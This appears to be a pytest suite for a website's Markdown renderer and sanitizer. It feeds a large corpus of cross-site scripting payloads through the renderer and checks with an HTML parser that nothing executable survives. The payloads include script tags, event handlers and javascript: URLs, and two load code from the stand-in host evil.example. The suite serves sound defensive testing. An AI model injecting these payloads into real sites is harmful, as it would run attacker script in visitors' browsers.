"""Members' Markdown: what renders, what is highlighted, mentions, and a corpus of hostile input
whose output is checked with an HTML parser for anything a browser could execute."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from practica.core.markdown import (
    ALLOWED_TAGS,
    extract_mentions,
    highlight_css,
    plain_text_as_markdown,
    render_markdown,
    sanitize_html,
)

pytestmark = pytest.mark.unit

XSS_CORPUS = [
    # script tags, plain and disguised
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=x></script>",
    "<<script>alert(1);//<</script>",
    '<script type="module">import("http://evil.example")</script>',
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<a href=# onclick=alert(1)>click</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<p ONCLICK="alert(1)">shouty</p>',
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    # dangerous URLs in links and images
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](x"onerror="alert(1))',
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    '<a href="javascript:alert(1)">raw</a>',
    '<a href="&#x6A;avascript:alert(1)">entity</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href="  javascript:alert(1)">spaces</a>',
    "<a href=vbscript:msgbox(1)>vb</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>data</a>",
    # autolinks
    "<javascript:alert(1)>",
    "<vbscript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # frames, objects, forms, meta
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # CSS
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">css</div>',
    '<div style="width: expression(alert(1))">ie</div>',
    '<span style="behavior:url(x.htc)">htc</span>',
    # nested, malformed, comments, entities
    "<<img src=x onerror=alert(1)//>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099"
    "&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>x</a>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # unicode escapes and look-alikes
    "[x](\\u006aavascript:alert(1))",
    '<a href="\u006aavascript:alert(1)">u</a>',
    "[x](java\u0000script:alert(1))",
    '<a href="java&#x0A;script:alert(1)">nl</a>',
    # raw HTML blocks inside Markdown constructs
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "**<a href=javascript:alert(1)>bold</a>**",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "`<script>alert(1)</script>`",
    # class and id smuggling
    '<a class="btn btn-primary" id="login" href="/x">fake button</a>',
]

DANGEROUS_TAGS = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "meta",
    "base",
    "link",
    "img",
    "video",
    "source",
    "body",
    "frame",
    "frameset",
    "marquee",
}
SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.-]*):")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"}


class Inspector(HTMLParser):
    """Collects every tag and attribute a browser would see."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))


def executable_vectors(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    problems = []
    for tag, attrs in inspector.tags:
        if tag in DANGEROUS_TAGS or tag not in ALLOWED_TAGS:
            problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"handler {name} on <{tag}>")
            if name in {"style", "id", "srcset", "formaction"}:
                problems.append(f"attribute {name} on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                squashed = "".join(ch for ch in value if ch.isprintable() and not ch.isspace())
                # A browser reads a scheme only if it looks like one; anything else is a path.
                scheme = SCHEME.match(squashed)
                if scheme and scheme.group(1).lower() not in {"http", "https", "mailto"}:
                    problems.append(f"{name}={value!r} on <{tag}>")
    return problems


def test_the_corpus_is_large():
    assert len(XSS_CORPUS) >= 40


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_hostile_input_renders_nothing_executable(payload):
    html = render_markdown(payload)
    assert executable_vectors(html) == [], html
    assert "<script" not in html.lower()


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_hostile_input_with_mentions_renders_nothing_executable(payload):
    html = render_markdown(f"@ana {payload} @ana", mentions={"ana": "/people/1/"})
    assert executable_vectors(html) == [], html


def test_the_inspector_catches_what_it_should():
    assert executable_vectors('<a href="javascript:alert(1)">x</a>')
    assert executable_vectors("<img src=x onerror=alert(1)>")
    assert executable_vectors("<script>alert(1)</script>")
    assert not executable_vectors('<a href="https://example.com/">x</a>')


@given(st.text(max_size=300))
@settings(max_examples=150, deadline=None)
def test_any_text_renders_safely(text):
    assert executable_vectors(render_markdown(text)) == []


@given(
    st.lists(
        st.sampled_from(
            [
                "<",
                ">",
                "script",
                "img",
                " src=x",
                " onerror=alert(1)",
                "javascript:",
                "[",
                "](",
                ")",
                "!",
                "`",
                '"',
                "'",
                "&#",
                "svg",
                " onload=",
                "<a href=",
                "style=",
                "\n",
            ]
        ),
        max_size=30,
    )
)
@settings(max_examples=200, deadline=None)
def test_assembled_fragments_render_safely(pieces):
    assert executable_vectors(render_markdown("".join(pieces))) == []


# --- what does render ----------------------------------------------------------------------


def test_commonmark_tables_and_strikethrough():
    html = render_markdown("# Title\n\n*em* **strong** ~~gone~~\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<h1>Title</h1>" in html
    assert "<em>em</em>" in html
    assert "<strong>strong</strong>" in html
    assert "<s>gone</s>" in html
    assert "<table>" in html
    assert "<td>1</td>" in html


def test_links_get_nofollow_noopener():
    html = render_markdown("[docs](https://example.com/docs) and <https://example.com/auto>")
    assert '<a href="https://example.com/docs" rel="nofollow noopener">docs</a>' in html
    assert 'href="https://example.com/auto"' in html


def test_mailto_and_relative_links_are_kept():
    html = render_markdown("[mail](mailto:team@example.com) [page](/communities/ml/)")
    assert 'href="mailto:team@example.com"' in html
    assert 'href="/communities/ml/"' in html


def test_images_become_links_to_their_address():
    html = render_markdown("![a chart](https://example.com/chart.png)")
    assert "<img" not in html
    assert '<a href="https://example.com/chart.png" rel="nofollow noopener">a chart</a>' in html


def test_harmless_inline_html_is_kept():
    html = render_markdown("Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O")
    assert "<kbd>Ctrl</kbd>" in html
    assert "<sub>2</sub>" in html


def test_code_is_highlighted_server_side_with_classes_only():
    html = render_markdown("```python\ndef answer():\n    return 42\n```")
    assert html.startswith('<pre class="highlight"><code>')
    assert '<span class="k">def</span>' in html
    assert "style=" not in html


def test_code_in_an_unknown_language_is_plain_and_escaped():
    html = render_markdown("```nosuchlanguage\n<b>bold?</b>\n```")
    assert "&lt;b&gt;bold?&lt;/b&gt;" in html
    assert "<b>" not in html


def test_classes_other_than_ours_are_dropped():
    html = render_markdown('<span class="k btn">x</span> <pre class="highlight modal">y</pre>')
    assert 'class="k"' in html
    assert 'class="highlight"' in html
    assert "btn" not in html
    assert "modal" not in html


def test_highlight_css_is_scoped():
    css = highlight_css()
    assert ".highlight .k" in css


def test_sanitize_html_alone():
    assert sanitize_html('<p onclick="x">hi</p>') == "<p>hi</p>"


def test_empty_text():
    assert render_markdown("") == ""


# --- mentions ------------------------------------------------------------------------------


def test_mentions_are_found_outside_code_and_links():
    text = (
        "Hi @Lukas.Becker and @ana, see `@not.code` and [@not.link](https://x.example).\n\n"
        "```\n@not.block\n```\n\nMail me at someone@example.com. Thanks @ana."
    )
    assert extract_mentions(text) == ["lukas.becker", "ana"]


def test_a_mention_does_not_swallow_trailing_punctuation():
    assert extract_mentions("Thanks @ana.b, and @bob!") == ["ana.b", "bob"]


def test_resolved_mentions_become_profile_links():
    html = render_markdown("ping @Ana and @nobody", mentions={"ana": "/people/7/"})
    assert '<a href="/people/7/" class="mention" rel="nofollow noopener">@Ana</a>' in html
    assert "@nobody" in html
    assert html.count("<a ") == 1


def test_mentions_in_code_are_not_linked():
    html = render_markdown("`@ana`", mentions={"ana": "/people/7/"})
    assert "<a " not in html


def test_mentions_are_capped():
    text = " ".join(f"@person{n}" for n in range(50))
    assert len(extract_mentions(text)) == 20


# --- Mail's plain text as Markdown -----------------------------------------------------------


def test_plain_text_keeps_its_line_breaks_and_paragraphs():
    html = render_markdown(plain_text_as_markdown("Hi all,\nline two\n\nNew paragraph"))

    assert html == "<p>Hi all,<br>\nline two</p>\n<p>New paragraph</p>\n"


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("# of users is 5", "# of users is 5"),
        ("1. not a list", "1. not a list"),
        ("- a dash", "- a dash"),
        ("> not a quote", "&gt; not a quote"),
        ("---", "---"),
        ("    indented text", "indented text"),
    ],
)
def test_lines_markdown_would_reinterpret_stay_text(line, shown):
    html = render_markdown(plain_text_as_markdown(f"Before\n{line}\nAfter"))

    assert html == f"<p>Before<br>\n{shown}<br>\nAfter</p>\n"


def test_fenced_code_in_mail_stays_code():
    text = "Try this:\n```\nfor x in y:\n    print(x)\n```\nThanks"

    html = render_markdown(plain_text_as_markdown(text))

    assert "<pre><code>for x in y:\n    print(x)\n</code></pre>" in html
    assert html.startswith("<p>Try this:</p>")


@given(st.text(max_size=400))
@settings(max_examples=150, deadline=None)
def test_any_text_converts_and_renders(text):
    render_markdown(plain_text_as_markdown(text))


def test_a_lone_list_marker_and_an_entity_stay_as_typed():
    html = render_markdown(plain_text_as_markdown("Options:\n-\n1.\nTom &amp; Jerry"))

    assert html == "<p>Options:<br>\n-<br>\n1.<br>\nTom &amp;amp; Jerry</p>\n"
